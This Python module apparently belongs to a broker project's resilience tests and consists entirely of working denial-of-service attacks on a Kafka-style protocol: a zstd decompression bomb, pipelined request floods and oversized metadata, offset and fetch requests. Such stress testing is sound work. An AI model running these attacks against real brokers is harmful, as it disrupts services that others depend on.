"""The attacks of `hostile.py`: each keeps a broker busy for a while and gives back what it was answered, by kind.

Nothing here measures, and nothing defends.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any

from kohort.protocol import messages as m
from kohort.protocol.errors import ErrorCode
from kohort.protocol.frames import decode_response, encode_request
from kohort.records.batch import HEADER_SIZE, Compression, Record, build_batch
from kohort.records.checksum import crc32c
from kohort.records.compression import compress
from kohort.records.varint import encode_varint

Answers = Counter[str]
Attack = Callable[[str, float], Answers]


class Wire:
    """One connection that speaks the protocol by hand."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), 300)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def send(self, request: Any, version: int) -> None:
        self.socket.sendall(frame(request, version))

    def receive(self) -> bytes:
        (size,) = struct.unpack(">i", self._exactly(4))
        return self._exactly(size)

    def call(self, request: Any, version: int) -> Any:
        self.send(request, version)
        kind = getattr(m, type(request).__name__.removesuffix("Request") + "Response")
        return decode_response(self.receive(), version, kind)

    def _exactly(self, size: int) -> bytes:
        data = bytearray()
        while len(data) < size:
            chunk = self.socket.recv(min(size - len(data), 1 << 20))
            if not chunk:
                raise EOFError
            data += chunk
        return bytes(data)


def frame(request: Any, version: int) -> bytes:
    return b"".join(map(bytes, encode_request(1, "attacker", version, request)))


def join(wire: Wire, group: str) -> tuple[str, int]:
    kind = m.JoinGroupRequest
    protocols = [kind.JoinGroupRequestProtocol(name="range", metadata=b"")]
    asked = kind(
        group_id=group, session_timeout_ms=45_000, rebalance_timeout_ms=60_000, protocol_type="x", protocols=protocols
    )
    joined = wire.call(asked, 3)
    wire.call(m.SyncGroupRequest(group_id=group, generation_id=joined.generation_id, member_id=joined.member_id), 2)
    return joined.member_id, joined.generation_id


def find_coordinator(wire: Wire, key: str, key_type: int = 0) -> None:
    for _ in range(300):
        answer = wire.call(m.FindCoordinatorRequest(key=key, key_type=key_type), 3)
        if not answer.error_code:
            return
        time.sleep(0.1)
    raise RuntimeError("no coordinator")


def lasting(seconds: float) -> Iterator[None]:
    """From now on: what has to be prepared is ready."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        yield


def produce(topic: str, batch: bytes) -> Any:
    kind = m.ProduceRequest
    data = [kind.TopicProduceData(name=topic, partition_data=[kind.PartitionProduceData(index=0, records=batch)])]
    return kind(acks=-1, timeout_ms=30_000, topic_data=data)


def bomb(size: int = 31_000_000) -> bytes:
    """A few kilobytes of zstd that inflate to millions of tiny records: the same one, its offset aside."""
    count = size // 11
    body = b"".join(_tiny(index) for index in range(2000))
    template = build_batch([Record(0, 1, b"k")], compression=Compression.ZSTD)
    packed = compress(Compression.ZSTD, body + bytes(size - len(body)))
    batch = bytearray(template[:HEADER_SIZE] + packed)
    batch[8:12] = (len(batch) - 12).to_bytes(4, "big")
    batch[23:27], batch[57:61] = (count - 1).to_bytes(4, "big"), count.to_bytes(4, "big")
    batch[17:21] = crc32c(bytes(batch[21:])).to_bytes(4, "big")
    return bytes(batch)


def _tiny(index: int) -> bytes:
    body = b"\0\0" + encode_varint(index) + b"\x02k\x01\0"
    return encode_varint(len(body)) + body


def good_bomb() -> bytes:
    """Many records that are as they should be, small enough to be stored."""
    count = 150_000
    body = b"".join(map(_tiny, range(count)))
    template = build_batch([Record(0, int(time.time() * 1000), b"k")], compression=Compression.ZSTD)
    batch = bytearray(template[:HEADER_SIZE] + compress(Compression.ZSTD, body))
    batch[8:12] = (len(batch) - 12).to_bytes(4, "big")
    batch[23:27], batch[57:61] = (count - 1).to_bytes(4, "big"), count.to_bytes(4, "big")
    batch[17:21] = crc32c(bytes(batch[21:])).to_bytes(4, "big")
    return bytes(batch)


def bombs(topic: str, make: Callable[[], bytes]) -> Attack:
    def attack(address: str, seconds: float) -> Answers:
        wire, batch, answers = Wire(address), make(), Answers()
        for _ in lasting(seconds):
            response = wire.call(produce(topic, batch), 9)
            answers[ErrorCode(response.responses[0].partition_responses[0].error_code).name] += 1
        return answers

    return attack


class Flood:
    """One connection that sends the same bytes once and reads whatever comes."""

    def __init__(self, address: str, data: bytes) -> None:
        self.socket = Wire(address).socket
        self.socket.setblocking(False)
        self._left = memoryview(data)
        self.received = 0

    @property
    def wanted(self) -> int:
        return selectors.EVENT_READ | (selectors.EVENT_WRITE if self._left else 0)

    def go_on(self, events: int) -> bool:
        """Whether the connection is still there."""
        with contextlib.suppress(BlockingIOError):
            if events & selectors.EVENT_WRITE:
                self._left = self._left[self.socket.send(self._left[: 1 << 16]) :]
            if events & selectors.EVENT_READ:
                data = self.socket.recv(1 << 20)
                self.received += len(data)
                return bool(data)
        return True


def pipelined(connections: int, requests: int, request: Any, version: int, times: int = 1 << 30) -> Attack:
    """All connections at once, each with all its requests at once; again when a second is over."""

    def attack(address: str, seconds: float) -> Answers:
        flood, answers = frame(request, version) * requests, Answers()
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            round_(address, flood, min(until, time.monotonic() + 1), answers)
        return answers

    def round_(address: str, flood: bytes, until: float, answers: Answers) -> None:
        with selectors.DefaultSelector() as selector:
            floods = [Flood(address, flood) for _ in range(connections)]
            for one in floods:
                selector.register(one.socket, one.wanted, one)
            while time.monotonic() < until and selector.get_map():
                for key, events in selector.select(0.05):
                    try:
                        is_there = key.data.go_on(events)
                    except OSError:
                        is_there = False
                    if is_there:
                        selector.modify(key.fileobj, key.data.wanted, key.data)
                    else:
                        answers["closed"] += 1
                        selector.unregister(key.fileobj)
            answers["KB"] += sum(one.received for one in floods) // 1000
            for one in floods:
                one.socket.close()

    return attack


def once(request: Any, version: int) -> Attack:
    """The same large request again and again, each after the answer to the last."""

    def attack(address: str, seconds: float) -> Answers:
        data, answers = frame(request, version), Answers()
        for _ in lasting(seconds):
            wire = Wire(address)
            try:
                wire.socket.sendall(data)
                wire.receive()
                answers["answered"] += 1
            except (EOFError, OSError):
                answers["closed"] += 1
            wire.socket.close()
        return answers

    return attack


def names(address: str, seconds: float) -> Answers:
    asked = [m.MetadataRequest.MetadataRequestTopic(name=f"n{index}") for index in range(240_000)]
    return once(m.MetadataRequest(topics=asked, allow_auto_topic_creation=False), 9)(address, seconds)


def partitions(address: str, seconds: float) -> Answers:
    create, delete = m.CreateTopicsRequest, m.DeleteTopicsRequest
    wire, answers = Wire(address), Answers()
    for number, _ in enumerate(lasting(seconds)):
        topic = create.CreatableTopic(name=f"wide{number}", num_partitions=9_999, replication_factor=1)
        made = wire.call(create(topics=[topic], timeout_ms=60_000), 5)
        answers[f"created: {ErrorCode(made.topics[0].error_code).name}"] += 1
        gone = wire.call(delete(topic_names=[f"wide{number}"], timeout_ms=60_000), 5)
        answers[f"deleted: {ErrorCode(gone.responses[0].error_code).name}"] += 1
    return answers


def syncs(address: str, seconds: float) -> Answers:
    wire, answers = Wire(address), Answers()
    group = f"big{time.time_ns()}"
    find_coordinator(wire, group)
    member_id, generation = join(wire, group)
    kind = m.SyncGroupRequest
    row = kind.SyncGroupRequestAssignment(member_id=member_id, assignment=bytes(1_000_000))
    data = frame(kind(group_id=group, generation_id=generation, member_id=member_id, assignments=[row]), 2)
    for _ in lasting(seconds):
        wire.socket.sendall(data)
        wire.receive()
        answers["answered"] += 1
    return answers


def offsets(address: str, seconds: float) -> Answers:
    kind = m.OffsetFetchRequest
    asked = [kind.OffsetFetchRequestGroup(group_id=f"g{index}", topics=None) for index in range(20_000)]
    return once(kind(groups=asked), 8)(address, seconds)


def commits(address: str, seconds: float) -> Answers:
    kind = m.OffsetCommitRequest
    rows = [
        kind.OffsetCommitRequestPartition(partition_index=index % 1000, committed_offset=1) for index in range(200_000)
    ]
    topics = [kind.OffsetCommitRequestTopic(name="wide", partitions=rows)]
    return once(kind(group_id="g0", topics=topics), 8)(address, seconds)


def ends(address: str, seconds: float) -> Answers:
    kind = m.ListOffsetsRequest
    rows = [kind.ListOffsetsPartition(partition_index=index, timestamp=1) for index in range(100_000)]
    return once(kind(topics=[kind.ListOffsetsTopic(name="wide", partitions=rows)]), 7)(address, seconds)


def configs(address: str, seconds: float) -> Answers:
    kind = m.DescribeConfigsRequest
    asked = [kind.DescribeConfigsResource(resource_type=2, resource_name="wide", configuration_keys=None)] * 1_000
    return once(kind(resources=asked), 4)(address, seconds)


def fetches(address: str, seconds: float) -> Answers:
    kind = m.FetchRequest
    rows = [kind.FetchPartition(partition=index, partition_max_bytes=1000) for index in range(100_000)]
    topics = [kind.FetchTopic(topic="wide", partitions=rows)]
    return once(kind(topics=topics, max_wait_ms=0, min_bytes=0, max_bytes=1 << 20), 12)(address, seconds)


def nothing(address: str, seconds: float) -> Answers:
    time.sleep(seconds)
    return Answers()


ATTACKS: dict[str, Attack] = {
    "nothing": nothing,
    "3 KB that inflate to 31 MB, to a compacted topic": bombs("compacted", bomb),
    "150,000 tiny records a batch, to a recompressing topic": bombs("recompressed", good_bomb),
    "512 Metadata(all) at once": pipelined(1, 512, m.MetadataRequest(topics=None), 9),
    "50 connections of 2,000 Metadata(all)": pipelined(50, 2_000, m.MetadataRequest(topics=None), 9),
    "100 ListGroups of 20,000 groups at once": pipelined(1, 100, m.ListGroupsRequest(), 4),
    "50 connections of 100 ListGroups": pipelined(50, 100, m.ListGroupsRequest(), 4),
    "240,000 names": names,
    "create and delete 9,999 partitions": partitions,
    "SyncGroups of 1 MB": syncs,
    "OffsetFetch of 20,000 groups": offsets,
    "OffsetCommit of 200,000 partitions": commits,
    "ListOffsets of 100,000 partitions": ends,
    "DescribeConfigs of 1,000 topics": configs,
    "Fetch of 100,000 partitions": fetches,
}
